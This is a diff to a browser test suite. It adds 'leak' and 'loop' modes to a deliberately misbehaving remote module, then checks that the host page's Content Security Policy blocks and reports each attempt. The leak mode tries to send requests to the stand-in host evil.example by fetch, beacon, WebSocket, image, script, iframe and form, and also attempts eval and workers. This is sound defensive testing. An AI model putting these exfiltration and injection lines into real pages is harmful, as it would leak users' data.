@@ -7,7 +7,7 @@ import { expect, test } from '../stage/owner';
 import { screenHeading } from '../stage/screen';
 
 /** What the changed remote can be told to do to the page. */
-type Attack = 'shells-fact' | 'misfit' | 'style' | 'markup' | 'stray';
+type Attack = 'shells-fact' | 'misfit' | 'style' | 'markup' | 'stray' | 'leak' | 'loop';
 declare global {
   var attack: ((what: Attack) => void) | undefined;
 }
@@ -23,6 +23,28 @@ const misbehaving: typeof defineRemote = (...told) => {
     misfit: () => emit('services/finished', { starred: 'many' }),
     style: () => document.head.append(Object.assign(document.createElement('style'), { textContent: 'h1 { letter-spacing: 9px !important }' })),
     stray: () => void setTimeout(() => Promise.reject(new TypeError('sam@example.com'))),
+    loop: () => void setTimeout(() => {
+      for (const end = performance.now() + 2500; performance.now() < end;);
+    }),
+    // Later: the debugger that calls this may use eval.
+    leak: () => void setTimeout(() => {
+      const to = 'https://evil.example/';
+      const tried = (act: () => unknown) => {
+        try { Promise.resolve(act()).catch(() => undefined); } catch { /* Refused: reported. */ }
+      };
+      tried(() => fetch(to + 'fetch'));
+      tried(() => navigator.sendBeacon(to + 'beacon', 'x'));
+      tried(() => new WebSocket('wss://evil.example/socket'));
+      tried(() => (0, eval)('window.taken = 1'));
+      tried(() => new Worker(URL.createObjectURL(new Blob(['']))));
+      tried(() => navigator.serviceWorker.register('/worker.js'));
+      tried(() => { new Image().src = to + 'image'; });
+      tried(() => { new Image().src = 'https://script.googleusercontent.com/image'; });
+      tried(() => document.body.append(Object.assign(document.createElement('script'), { src: to })));
+      tried(() => document.body.append(Object.assign(document.createElement('iframe'), { src: to + 'frame' })));
+      const form = Object.assign(document.createElement('form'), { action: to + 'form', method: 'post' });
+      tried(() => { document.body.append(form); form.submit(); });
+    }),
     markup: () => { document.body.innerHTML = '<img src="x" onerror="window.taken = 1">'; },
   });
   return {
@@ -88,6 +110,56 @@ test(
       expect(report.postData()).toContain(`/remotes/mf-services/${version}/`);
       const taken = await page.evaluate(() => 'taken' in window);
       expect(taken).toBe(false);
+    });
+
+    await test.step('leak: no request leaves, no code of others runs, and each report names the remote', async () => {
+      const arrived: string[] = [];
+      await context.route(/evil\.example|script\.googleusercontent/, (route) => {
+        arrived.push(route.request().url());
+        return route.abort();
+      });
+      const reports: Record<string, string>[] = [];
+      page.on('request', (sent) => {
+        if (!sent.url().endsWith('/violations')) return;
+        const body = JSON.parse(sent.postData() ?? '{}') as Record<string, Record<string, string>>;
+        if (body['csp-report']) reports.push(body['csp-report']);
+      });
+      await opens();
+      await attack('leak');
+
+      const refused = () =>
+        [
+          ...new Set(reports.map((one) => `${one['effective-directive']} ${one['blocked-uri']}`)),
+        ].sort();
+      await expect
+        .poll(refused)
+        .toStrictEqual([
+          'connect-src https://evil.example/beacon',
+          'connect-src https://evil.example/fetch',
+          'connect-src wss://evil.example/socket',
+          'form-action https://evil.example/form',
+          'frame-src https://evil.example',
+          'img-src https://evil.example/image',
+          'img-src https://script.googleusercontent.com/image',
+          'require-trusted-types-for trusted-types-sink',
+        ]);
+      expect(arrived).toStrictEqual([]);
+      expect(await page.evaluate(() => 'taken' in window)).toBe(false);
+      const code = `/remotes/mf-services/${version}/`;
+      for (const { 'source-file': source = '', 'document-uri': shown } of reports) {
+        expect(source ? source.includes(code) : new URL(shown!).pathname).toBe(
+          source ? true : '/services',
+        );
+      }
+    });
+
+    await test.step('loop: code that blocks the page for seconds is reported with remote and version', async () => {
+      await opens();
+      const reported = page.waitForRequest((sent) => sent.url().endsWith('/violations'));
+      await attack('loop');
+      const told = (await reported).postData();
+      expect(told).toContain('"kind":"blocked","name":"for_3_s"');
+      expect(told).toContain(`/remotes/mf-services/${version}/`);
     });
 
     await test.step('stray: a rejection nobody handles is told with remote and version, not what it says', async () => {
